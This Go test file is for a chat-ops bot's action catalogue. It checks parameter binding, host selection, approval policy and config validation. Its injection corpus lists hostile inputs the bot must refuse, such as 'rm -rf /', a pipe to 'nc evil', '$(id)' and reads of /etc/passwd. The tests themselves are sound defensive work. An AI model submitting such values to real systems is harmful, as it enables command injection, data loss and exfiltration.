package actions

import (
	"context"
	"strings"
	"testing"

	"opsbot/bot"
)

func ptr(n int) *int { return &n }

// testConfig is a small catalogue used by the tests of this package.
func testConfig() Config {
	return Config{
		Groups: map[string]GroupConfig{"web": {Services: []string{"nginx", "app"}}, "db": {Services: []string{"postgresql"}}},
		Hosts: []HostConfig{
			{Name: "web-1", Address: "10.0.0.1", Groups: []string{"web"}, Env: "prod", Labels: map[string]string{"dc": "fra"}},
			{Name: "web-2", Address: "10.0.0.2", Groups: []string{"web"}, Env: "staging"},
			{Name: "db-1", Address: "10.0.0.3", Groups: []string{"db"}, Env: "prod"},
		},
		Actions: map[string]ActionConfig{
			"restart": {Argv: []string{"sudo", "systemctl", "restart", "{unit}"}, Params: map[string]ParamConfig{"unit": {Type: "service"}},
				Risk: "high", Role: "operator", Approval: map[string]bool{"prod": true, "staging": false}},
			"logs": {Argv: []string{"journalctl", "-u", "{unit}", "-n", "{lines}", "--output={format}"}, Risk: "low", Role: "responder",
				Params: map[string]ParamConfig{"unit": {Type: "service"}, "lines": {Type: "int", Min: ptr(1), Max: ptr(1000), Default: "100"},
					"format": {Type: "enum", Values: []string{"short", "json"}, Default: "short"}}},
			"tag": {Argv: []string{"deploy-tag", "--name={name}"}, Params: map[string]ParamConfig{"name": {Type: "word"}}},
		},
	}
}

func testCatalogue(t *testing.T) *Catalogue {
	t.Helper()
	cat, err := New(testConfig())
	if err != nil {
		t.Fatal(err)
	}
	return cat
}

func TestBindSubstitutesWholeElements(t *testing.T) {
	cat := testCatalogue(t)
	hosts, err := cat.Resolve(context.Background(), "web")
	if err != nil {
		t.Fatal(err)
	}
	logs, _ := cat.Action("logs")
	p, err := logs.Bind([]string{"nginx"}, map[string]string{"lines": "050"}, hosts)
	if err != nil {
		t.Fatal(err)
	}
	want := "'journalctl' '-u' 'nginx' '-n' '50' '--output=short'"
	if got := p.CommandLine(); got != want {
		t.Errorf("command line = %s, want %s", got, want)
	}
	if got := logs.Usage(); got != "logs <unit> [lines] [format]" {
		t.Errorf("usage = %q", got)
	}
}

func TestBindRefusals(t *testing.T) {
	cat := testCatalogue(t)
	web, _ := cat.Resolve(context.Background(), "web")
	all, _ := cat.Resolve(context.Background(), "env=prod")
	tests := []struct {
		name, action string
		pos          []string
		named        map[string]string
		hosts        []Host
		want         string
	}{
		{"service not on host group", "restart", []string{"postgresql"}, nil, web, "web-1 does not run postgresql"},
		{"service not on every host", "restart", []string{"nginx"}, nil, all, "db-1 does not run nginx"},
		{"int above max", "logs", []string{"nginx", "1001"}, nil, web, "from 1 to 1000"},
		{"int below min", "logs", []string{"nginx", "0"}, nil, web, "from 1 to 1000"},
		{"enum", "logs", []string{"nginx"}, map[string]string{"format": "xml"}, web, "one of short, json"},
		{"missing", "restart", nil, nil, web, "needs unit"},
		{"too many", "restart", []string{"nginx", "app"}, nil, web, "at most 1"},
		{"unknown named", "restart", nil, map[string]string{"host": "x"}, web, "no parameter"},
		{"twice", "restart", []string{"nginx"}, map[string]string{"unit": "app"}, web, "given twice"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := cat.Action(tt.action)
			if err != nil {
				t.Fatal(err)
			}
			_, err = a.Bind(tt.pos, tt.named, tt.hosts)
			if err == nil || !strings.Contains(bot.UserMessage(err), tt.want) {
				t.Fatalf("err = %v, want one saying %q", err, tt.want)
			}
		})
	}
}

// injection is the corpus of values no parameter may accept.
var injection = []string{
	"nginx; rm -rf /", "nginx && reboot", "nginx | nc evil 1", "`id`", "$(id)", "${IFS}", "nginx\nreboot", "nginx\r\n",
	`"nginx"`, "'nginx'", "nginx*", "ngin?", "[a-z]*", "--help", "-n", "--output=/etc/passwd", "~root", "a b", "",
	strings.Repeat("a", 65), strings.Repeat("9", 400), "nginx\x00", "ngïnx", "nginx\u200b", "１２", "../../etc", "a>b", "a<b", "a\\b",
	"$HOME", "nginx#", "!!", "{unit}",
}

func TestInjectionCorpusRefusedForEveryParameter(t *testing.T) {
	cat := testCatalogue(t)
	web, _ := cat.Resolve(context.Background(), "web")
	for _, name := range cat.ActionNames() {
		a, _ := cat.Action(name)
		for _, pn := range a.ParamOrder() {
			for _, v := range injection {
				if _, err := a.Bind(nil, fill(a, pn, v), web); err == nil {
					t.Errorf("%s %s=%q was accepted", name, pn, v)
				}
			}
		}
	}
}

// fill gives every parameter a valid value except pn, which gets v.
func fill(a *Action, pn, v string) map[string]string {
	good := map[string]string{"service": "nginx", "int": "5", "enum": "json", "word": "v1.2"}
	out := map[string]string{}
	for _, n := range a.ParamOrder() {
		out[n] = good[a.Params[n].Type]
	}
	out[pn] = v
	return out
}

func TestResolve(t *testing.T) {
	cat := testCatalogue(t)
	tests := []struct {
		sel     string
		want    string
		wantErr string
	}{
		{sel: "web-1", want: "web-1"},
		{sel: "web", want: "web-1,web-2"},
		{sel: "role=web,env=prod", want: "web-1"},
		{sel: "env=prod", want: "web-1,db-1"},
		{sel: "dc=fra", want: "web-1"},
		{sel: "web-3", wantErr: "did you mean web-1, web-2, web?"},
		{sel: "xyzzy", wantErr: "groups: db, web"},
		{sel: "env=dev", wantErr: "no host matches"},
		{sel: "env=", wantErr: "not a label selector"},
	}
	for _, tt := range tests {
		t.Run(tt.sel, func(t *testing.T) {
			hosts, err := cat.Resolve(context.Background(), tt.sel)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(bot.UserMessage(err), tt.wantErr) {
					t.Fatalf("err = %v, want %q", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			var names []string
			for _, h := range hosts {
				names = append(names, h.Name)
			}
			if got := strings.Join(names, ","); got != tt.want {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}

func TestApprovalPolicy(t *testing.T) {
	cat := testCatalogue(t)
	a, _ := cat.Action("restart")
	if !a.NeedsApproval("prod") || a.NeedsApproval("staging") || a.NeedsApproval("dev") {
		t.Error("approval policy not applied per environment")
	}
	if a.Role != bot.RoleOperator || a.Risk != "high" {
		t.Errorf("role %s risk %s", a.Role, a.Risk)
	}
}

func TestValidate(t *testing.T) {
	cfg := testConfig()
	cfg.Hosts = append(cfg.Hosts, HostConfig{Name: "web-1", Groups: []string{"nope"}})
	cfg.Actions["bad"] = ActionConfig{Argv: []string{"{x}", "{y}"}, Risk: "extreme", Role: "boss",
		Params: map[string]ParamConfig{"x": {Type: "word"}, "z": {Type: "float"}}}
	var got []string
	for _, e := range cfg.Validate() {
		got = append(got, e.Error())
	}
	all := strings.Join(got, "\n")
	for _, want := range []string{"hosts[3].name: \"web-1\" is listed twice", "hosts[3].groups: \"nope\"", "actions.bad.argv[0]: the program",
		"actions.bad.argv[1]: placeholder {y}", "actions.bad.risk", "actions.bad.role", "actions.bad.params.z: not used", "actions.bad.params.z: type \"float\""} {
		if !strings.Contains(all, want) {
			t.Errorf("missing %q in:\n%s", want, all)
		}
	}
	if errs := testConfig().Validate(); len(errs) != 0 {
		t.Errorf("valid config refused: %v", errs)
	}
}
